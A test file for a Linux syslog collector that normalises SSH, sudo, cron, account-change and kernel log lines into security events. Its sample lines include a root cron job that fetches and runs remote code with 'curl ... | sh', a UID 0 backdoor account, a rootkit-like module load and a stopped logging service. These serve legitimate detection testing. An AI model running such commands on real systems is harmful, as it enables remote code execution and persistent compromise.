/** The Linux collector against lines of each program, whole recorded files, and garbage. */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { corpusPath, hasCorpus } from '../tests/corpus.ts';
import { ecsProblems, hasEcsReference } from '../tests/ecs.ts';
import type { NormaliseContext } from './collector.ts';
import { linuxSyslog } from './linux-syslog.ts';

const context: NormaliseContext = { source: 'app17', anchor: '2026-03-04T12:00:00Z', zoneMinutes: 60 };
const bytes = (text: string) => new TextEncoder().encode(text);

function eventOf(line: string, at: NormaliseContext = context) {
  const result = linuxSyslog.normalise(bytes(line), at);
  if ('reject' in result) throw new Error(result.reject);
  return result.event;
}
const iso = (rest: string) => eventOf(`2026-03-04T10:00:00.123456+01:00 app17 ${rest}`);

describe('linux-syslog', () => {
  it('reads a refused SSH login as written down', () => {
    const line =
      'Mar  4 10:00:00 app17 sshd[97]: Failed password for invalid user adm in from 192.0.2.66 port 47378 ssh2';
    expect(eventOf(line)).toEqual({
      '@timestamp': '2026-03-04T09:00:00.000Z',
      event: {
        kind: 'event',
        module: 'linux',
        dataset: 'linux.auth',
        provider: 'sshd',
        category: ['authentication'],
        type: ['start'],
        action: 'ssh-login',
        outcome: 'failure',
        original: line,
      },
      message: 'Failed password for invalid user adm in from 192.0.2.66 port 47378 ssh2',
      host: { name: 'app17', hostname: 'app17' },
      log: { syslog: { appname: 'sshd', procid: '97', hostname: 'app17' } },
      process: { name: 'sshd', pid: 97 },
      user: { name: 'adm in' },
      source: { address: '192.0.2.66', ip: '192.0.2.66', port: 47378 },
      related: { user: ['adm in'], ip: ['192.0.2.66'], hosts: ['app17'] },
      vigia: {
        logsource: { product: 'linux', service: 'sshd' },
        clock: ['assumed-year', 'assumed-zone'],
        linux: { method: 'password', unknownUser: true },
      },
    });
  });

  it.each([
    [
      'sshd[5]: Accepted publickey for ana from 2001:db8::5 port 22 ssh2: ED25519 SHA256:x',
      {
        event: { action: 'ssh-login', outcome: 'success' },
        user: { name: 'ana' },
        source: { ip: '2001:db8::5' },
      },
    ],
    [
      'sshd-session[5]: Invalid user x from 192.0.2.9 port 40',
      { event: { action: 'ssh-unknown-user', outcome: 'failure' }, user: { name: 'x' } },
    ],
    [
      'sshd[5]: Failed password for a from 192.0.2.1 port 1 ssh2 from 192.0.2.2 port 2 ssh2',
      { source: { ip: '192.0.2.2' } },
    ],
    [
      'sudo:    ana : TTY=pts/0 ; PWD=/home/ana ; USER=root ; COMMAND=/usr/bin/id -u',
      {
        event: { action: 'sudo-command', outcome: 'success', category: ['process'] },
        user: { name: 'ana', effective: { name: 'root' } },
        process: { command_line: '/usr/bin/id -u', working_directory: '/home/ana' },
      },
    ],
    [
      'sudo: ana : user NOT in sudoers ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
      { event: { action: 'sudo-refused', outcome: 'failure', reason: 'user NOT in sudoers' } },
    ],
    [
      'sudo: ana : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
      { event: { action: 'sudo-refused', reason: '3 incorrect password attempts' } },
    ],
    [
      'su[7]: FAILED SU (to root) ana on pts/1',
      { event: { action: 'su', outcome: 'failure' }, user: { name: 'ana', effective: { name: 'root' } } },
    ],
    [
      'useradd[8]: new user: name=tool, UID=0, GID=0, home=/home/tool, shell=/bin/bash, from=none',
      {
        event: { action: 'user-created', category: ['iam'], type: ['user', 'creation'] },
        user: { target: { name: 'tool', id: '0' } },
      },
    ],
    [
      "usermod[9]: add 'tool' to group 'sudo'",
      {
        event: { action: 'group-member-added' },
        user: { target: { name: 'tool' } },
        group: { name: 'sudo' },
      },
    ],
    [
      'gpasswd[9]: user tool added by root to group docker',
      {
        event: { action: 'group-member-added' },
        user: { name: 'root', target: { name: 'tool' } },
        group: { name: 'docker' },
      },
    ],
    [
      "userdel[9]: delete user 'tool'",
      { event: { action: 'user-deleted' }, user: { target: { name: 'tool' } } },
    ],
    [
      "passwd[9]: password for 'tool' changed by 'root'",
      { event: { action: 'password-changed' }, user: { name: 'root', target: { name: 'tool' } } },
    ],
    [
      'CRON[10]: (root) CMD (curl -s http://192.0.2.66/x | sh)',
      {
        event: { action: 'cron-command', dataset: 'linux.cron' },
        user: { name: 'root' },
        process: { command_line: 'curl -s http://192.0.2.66/x | sh' },
      },
    ],
    ['crontab[10]: (ana) REPLACE (ana)', { event: { action: 'crontab-changed' }, user: { name: 'ana' } }],
    [
      'login[3]: pam_unix(login:auth): authentication failure; logname= uid=0 euid=0 tty=tty1 ruser= rhost=192.0.2.7  user=root',
      {
        event: { action: 'pam-login', outcome: 'failure', dataset: 'linux.auth' },
        user: { target: { name: 'root' } },
        source: { ip: '192.0.2.7' },
      },
    ],
    [
      'systemd[1]: Stopped System Logging Service.',
      { event: { action: 'service-stopped' }, vigia: { linux: { unit: 'System Logging Service' } } },
    ],
    [
      'kernel: [   12.345678] rk: loading out-of-tree module taints kernel.',
      { event: { action: 'kernel-module-loaded', category: ['driver'] }, vigia: { linux: { module: 'rk' } } },
    ],
    [
      'app17 nginx: hello',
      { process: { name: 'nginx' }, message: 'hello', event: { action: 'message', dataset: 'linux.syslog' } },
    ],
    [
      'my-own-tool[1]: anything at all',
      { process: { name: 'my-own-tool', pid: 1 }, event: { action: 'message' } },
    ],
  ])('understands %s', (rest, expected) => {
    expect(iso(rest)).toMatchObject({ '@timestamp': '2026-03-04T09:00:00.123Z', ...expected });
  });

  it('reads RFC 5424 with structured data, escapes and the UTF-8 mark', () => {
    const event = eventOf(
      '<165>1 2026-03-04T10:00:00.5Z app17 tool 42 ID7 [a@32473 k="v\\"\\]\\\\" e="ü"][__proto__ x="1"] \uFEFFtext',
    );
    expect(event).toMatchObject({
      '@timestamp': '2026-03-04T10:00:00.500Z',
      message: 'text',
      process: { name: 'tool', pid: 42 },
      log: {
        level: 'notice',
        syslog: {
          priority: 165,
          msgid: 'ID7',
          facility: { code: 20, name: 'local4' },
          severity: { code: 5 },
        },
      },
    });
    const data = event.log?.syslog?.['structured_data'] as Record<string, Record<string, string>>;
    expect(data['a@32473']).toEqual({ k: 'v"]\\', e: 'ü' });
    expect(Object.keys(data)).toEqual(['a@32473', '__proto__']);
  });

  it('leaves the time out where RFC 5424 gives none', () => {
    expect(eventOf('<13>1 - - tool - - - text')).not.toHaveProperty('@timestamp');
  });

  it.each([
    ['Dec 31 23:59:59', '2025-12-31T22:59:59.000Z'],
    ['Mar  5 09:00:00', '2026-03-05T08:00:00.000Z'],
    ['Mar  6 09:00:00', '2025-03-06T08:00:00.000Z'],
    ['Feb 29 01:00:00', '2024-02-29T00:00:00.000Z'],
  ])('puts %s, which has no year, not more than a day after the first reading', (time, expected) => {
    expect(eventOf(`${time} app17 tool: x`)['@timestamp']).toBe(expected);
  });

  it('hides a password in a command in every field', () => {
    const event = iso("sudo: ana : PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'echo tool:Hid3-me | chpasswd'");
    expect(JSON.stringify(event)).not.toContain('Hid3-me');
    expect(event.process?.command_line).toBe("/bin/sh -c 'echo tool:<masked> | chpasswd'");
  });

  it.each([
    ['', 'no syslog time'],
    ['no header at all', 'no syslog time'],
    ['Nov 31 10:00:00 app17 tool: x', 'no syslog time'],
    ['<999>Mar  4 10:00:00 app17 tool: x', 'over 191'],
    ['<13>1 2026-03-04T10:00:00Z app17', 'cut short'],
    ['<13>1 2026-03-04T10:00:00Z app17 tool - - [a b', 'structured data'],
  ])('refuses %j and says why', (line, reason) => {
    const result = linuxSyslog.normalise(bytes(line), context);
    expect('reject' in result && result.reject).toContain(reason);
  });

  it('throws at nothing', () => {
    const line = bytes(
      '<38>1 2026-03-04T10:00:00Z app17 sshd 35 - [a b="c"] Failed password for x from 192.0.2.1 port 1',
    );
    for (let at = 0; at < line.length; at += 1) {
      for (const byte of [0, 0x22, 0x5d, 0x80, 0xff]) {
        const broken = line.slice();
        broken[at] = byte;
        expect(() => linuxSyslog.normalise(broken, context)).not.toThrow();
        expect(() => linuxSyslog.normalise(line.subarray(0, at), context)).not.toThrow();
      }
    }
    expect(() => iso(`sshd[1]: Accepted password for ${'a from '.repeat(20_000)}`)).not.toThrow();
  });

  const files = [
    'auth.log',
    'auth-iso.log',
    'syslog',
    'all-rfc5424.log',
    'syslog-tcp-newline.raw',
    'syslog-udp-rfc3164.raw',
  ];
  describe.skipIf(!hasCorpus('samples', 'linux') || !hasEcsReference())('on recorded files', () => {
    it.each(files)('makes an ECS event without passwords of every line of %s', (file) => {
      const problemsOf = ecsProblems();
      const at = { ...context, anchor: '2026-11-22T00:00:00Z', zoneMinutes: 0 };
      const lines = readFileSync(corpusPath('samples', 'linux', file), 'utf8')
        .split('\n')
        .filter(Boolean);
      expect(lines.length).toBeGreaterThan(70);
      for (const line of lines) {
        const event = eventOf(line, at);
        expect(problemsOf(event)).toEqual([]);
        expect(JSON.stringify(event)).not.toMatch(/Ev1l|Pass!9/);
        expect(event['@timestamp']).toMatch(/^2026-11-21T20:0[5-8]:/);
      }
    });
  });
});
